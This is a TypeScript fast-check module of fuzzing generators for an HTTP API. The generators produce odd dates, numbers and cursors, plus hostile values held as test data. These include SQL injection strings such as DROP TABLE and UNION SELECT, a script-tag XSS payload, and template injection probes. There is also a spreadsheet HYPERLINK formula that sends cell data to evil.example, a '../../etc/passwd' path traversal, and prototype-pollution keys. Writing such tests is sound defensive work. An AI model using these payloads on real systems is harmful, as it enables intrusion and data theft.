import fc from 'fast-check';

/**
 * Single values a client could put in a path, a query or a JSON field: valid ones (so requests
 * reach real rows), near-valid ones (edges of every documented bound) and hostile ones.
 */

/** Names that are dangerous as keys of plain objects. */
export const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'isPrototypeOf'];

/** Characters that look harmless, or like nothing at all, and are not. */
export const UNICODE_TRICKS = [
  '\u202e', // right-to-left override
  '\u202d',
  '\u200b', // zero-width space
  '\u200d', // zero-width joiner
  '\u2060',
  '\ufeff', // byte order mark
  '\u0301\u0301\u0301', // stacked combining marks
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  '\uffff',
  '\ufffd',
  '\u2028', // line separator
  '\u2029',
  '\u0430', // Cyrillic a, looks like Latin a
  '\uff21', // full-width A
  '\u0130', // Turkish dotted I (changes length when lowercased)
  '\u00df', // sharp s (uppercases to SS)
  '\u{1f642}',
  '\u{e0041}', // tag character
];

export const CONTROL_CHARACTERS = ['\u0000', '\u0001', '\u0007', '\b', '\t', '\n', '\u000b', '\f', '\r', '\u001b', '\u001f', '\u007f', '\u0085', '\u009b'];

export const SQL_LIKE = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1; SELECT pg_sleep(30)',
  "') UNION SELECT table_name FROM information_schema.tables --",
  '%',
  '_',
  '%%',
  '\\',
  '\\x00',
  "E'\\\\'",
  '$1',
  '$$',
  ':name',
  '?',
  '/*',
  '--',
];

export const MARKUP_AND_TEMPLATES = [
  '<script>alert(1)</script>',
  '${7*7}',
  '{{7*7}}',
  '%s%s%n',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
];

export const PATH_LIKE = ['..', '.', '../..', '..\\..', '/', '//', '%2e%2e', '%00', '~', 'a/b', 'a%2Fb', ' '];

export const RESERVED_LOOKING = [
  'admin',
  'root',
  'api',
  'docs',
  'health',
  'metrics',
  'me',
  'Admin',
  'ADMIN',
  'administrator',
  'system',
  'null',
  'undefined',
  'true',
  'NaN',
  'users',
  'maintenance',
];

/** Lengths just past the spec's limits and well beyond them. */
export const longText = fc
  .tuple(fc.constantFrom(33, 50, 51, 64, 65, 100, 101, 200, 201, 1000, 4096, 10_000), fc.constantFrom('a', 'é', '\u0000', '\u{1f642}', 'ab-', '\u0301'))
  .map(([n, unit]) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n));

/** A plain, valid-looking name with one trick character put somewhere in it. */
const nameWithTrick = fc
  .tuple(fc.constantFrom('alice', 'bob', 'claude-sonnet-4-5-20250929', 'laptop', 'a'), fc.constantFrom(...UNICODE_TRICKS, ...CONTROL_CHARACTERS), fc.nat())
  .map(([name, trick, at]) => {
    const i = at % (name.length + 1);
    return name.slice(0, i) + trick + name.slice(i);
  });

/** Text of any kind, weighted towards the hostile. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PROTOTYPE_NAMES, ...SQL_LIKE, ...MARKUP_AND_TEMPLATES, ...PATH_LIKE, ...RESERVED_LOOKING, '', ' ', '  a  ') },
  { weight: 3, arbitrary: nameWithTrick },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: fc.constantFrom(...UNICODE_TRICKS, ...CONTROL_CHARACTERS, 'a', '-', '.', '_', '%'), maxLength: 12 }) },
  { weight: 2, arbitrary: longText },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
);

/** Numbers as they come in a query string or a path: valid, at the edges, and not numbers at all. */
export const numberText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 600 }).map(String) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '0',
      '1',
      '-1',
      '-0',
      '1.5',
      '0.0001',
      '1e3',
      '1e308',
      '1e999',
      '-1e999',
      'NaN',
      'Infinity',
      '-Infinity',
      '0x10',
      '0b11',
      '0o7',
      '010',
      '500',
      '501',
      '5000',
      '5001',
      '10000000',
      '10000001',
      '2147483647',
      '2147483648',
      '4294967296',
      '9007199254740991',
      '9007199254740993',
      '18446744073709551616',
      '99999999999999999999999999999',
      ' 5',
      '5 ',
      '+5',
      '5,000',
      '5_000',
      '\u0663',
      '\uff15',
      '',
      'null',
      'true',
      '[]',
      '{}',
      '1/0',
    ),
  },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String) },
  { weight: 1, arbitrary: hostileText },
);

const pad = (n: number, width: number) => (n < 0 ? '-' : '') + String(Math.abs(n)).padStart(width, '0');

/** The days the seeded data covers, and the edges of what a request may name. */
export const DATA_DAYS = ['2025-01-01', '2025-05-10', '2025-06-01', '2025-06-03', '2025-06-07', '2025-07-14', '2025-07-15'];

/** Days as text: mostly real calendar days near the data, then edges, then nonsense. */
export function dayText(now = new Date()): fc.Arbitrary<string> {
  const today = now.toISOString().slice(0, 10);
  const year = now.getUTCFullYear();
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...DATA_DAYS, today) },
    {
      weight: 2,
      arbitrary: fc
        .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date(`${year + 1}-12-31T00:00:00Z`), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
    },
    {
      weight: 4,
      arbitrary: fc.constantFrom(
        '9999-12-31',
        '0000-01-01',
        '10000-01-01',
        '+010000-01-01',
        '-000001-01-01',
        '275760-09-13',
        '1970-01-01',
        '1969-12-31',
        '1999-12-31',
        '2000-01-01',
        `${year + 1}-12-31`,
        `${year + 2}-01-01`,
        '2025-02-29',
        '2024-02-29',
        '2025-02-30',
        '2025-13-01',
        '2025-00-10',
        '2025-06-00',
        '2025-06-32',
        '2025-6-1',
        '20250601',
        '2025/06/01',
        '2025-06-01T00:00:00Z',
        '2025-06-01 ',
        ' 2025-06-01',
        '2025-06',
        '2025',
        'today',
        'now',
        'NaN',
        '',
        '2025-06-01\u0000',
        '２０２５-06-01',
        '2026-99-99',
      ),
    },
    // Real calendar days far ahead, the last month of year 9999 above all (the next month is +010000-01).
    { weight: 1, arbitrary: fc.integer({ min: 1, max: 31 }).map((d) => `9999-12-${pad(d, 2)}`) },
    {
      weight: 1,
      arbitrary: fc
        .date({ min: new Date('2100-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.integer({ min: -10, max: 300_000 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 32 }))
        .map(([y, m, d]) => `${pad(y, 4)}-${pad(m, 2)}-${pad(d, 2)}`),
    },
    { weight: 1, arbitrary: hostileText },
  );
}

/** User ids as they could appear in an export cursor. */
const cursorId = fc.oneof(
  fc.integer({ min: 1, max: 20 }).map(String),
  fc.constantFrom(
    '0',
    '-1',
    '1.5',
    '2147483647',
    '2147483648',
    '4294967297',
    '9007199254740993',
    '1e400',
    '99999999999999999999999',
    'NaN',
    '',
    ' 1',
    '0x1',
    'abc',
  ),
);

/** Export cursors: base64url of `day|id` with every kind of day and id, and strings that are no cursor at all. */
export function cursorText(now = new Date()): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.tuple(dayText(now), cursorId).map(([d, id]) => Buffer.from(`${d}|${id}`).toString('base64url')) },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom('2026-99-99|1', '2025-06-01|2147483648', '2025-06-01|9007199254740993', '2025-06-01|1|2', '|', '2025-06-01', '|1')
        .map((t) => Buffer.from(t).toString('base64url')),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((t) => Buffer.from(t).toString('base64url')) },
    { weight: 1, arbitrary: fc.constantFrom('!!!', '====', 'AAAA', 'a', '', '%', 'A'.repeat(201), 'A'.repeat(5000)) },
    { weight: 1, arbitrary: hostileText },
  );
}

/** Usernames: the seeded ones, ones nobody has, and hostile ones. */
export const usernameText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('alice', 'bob', 'nobody', 'ALICE', 'Alice', 'alice.', 'alice-', 'a', 'a'.repeat(50), 'a'.repeat(51)) },
  { weight: 3, arbitrary: hostileText },
);

export const MODEL_NAMES = [
  'claude-sonnet-4-5-20250929',
  'claude-opus-4-1-20250805',
  'claude-3-5-haiku-20241022',
  'claude-zephyr-9-20990101',
  'gpt-5-codex',
  'unknown',
];

export const modelText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...MODEL_NAMES, 'CLAUDE-SONNET-4-5-20250929', 'claude', 'x\u0000y', 'm'.repeat(100), 'm'.repeat(101)) },
  { weight: 3, arbitrary: hostileText },
);

/** Header values: Node only sends tab, visible ASCII and Latin-1, so other text is not possible here. */
export const headerText = fc.oneof(
  fc.constantFrom('', ' ', 'x'.repeat(8000), '\u00ff\u00fe', '../../etc/passwd', 'a b c', '"', '*', 'W/"x"', '\t'),
  fc.string({ unit: fc.constantFrom('a', 'Z', '0', '-', ' ', '"', ',', ';', '=', '\u00e9', '\t', '/'), maxLength: 40 }),
);

/** Days a read may name: from 2000-01-01 to the end of next year, mostly the seeded ones. */
export function validDayText(now = new Date()): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...DATA_DAYS, now.toISOString().slice(0, 10)) },
    {
      weight: 1,
      arbitrary: fc
        .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date(`${now.getUTCFullYear() + 1}-12-31T00:00:00Z`), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
    },
  );
}

/** Cursors as the service gives them out: a seeded day and a small user id. */
export const validCursorText = fc
  .tuple(fc.constantFrom(...DATA_DAYS), fc.integer({ min: 1, max: 4 }))
  .map(([d, id]) => Buffer.from(`${d}|${id}`).toString('base64url'));
